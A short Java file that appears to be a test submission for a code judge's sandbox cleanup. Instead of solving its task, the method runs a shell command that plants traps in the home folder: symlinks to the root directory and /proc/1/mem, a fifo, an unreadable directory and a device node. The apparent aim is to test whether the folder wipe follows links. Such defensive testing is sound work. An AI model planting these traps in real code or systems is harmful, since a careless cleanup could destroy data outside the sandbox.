// defence: a folder is wiped under its own uid, without following links
// verdict: WrongAnswer
// twice
public class Solution {
    public static Map<String, List<Double>> Positions(List<String> words) throws Exception {
        String home = System.getenv("HOME");
        new ProcessBuilder("/bin/sh", "-c", "cd " + home + "; ln -s / root; ln -s /proc/1/mem memory; ln -s ../.. up; mkfifo pipe; mkdir -p a/b; chmod 0 a; mknod null c 1 3")
            .start().waitFor();
        return /*answer*/Map.of()/*end*/;
    }
}
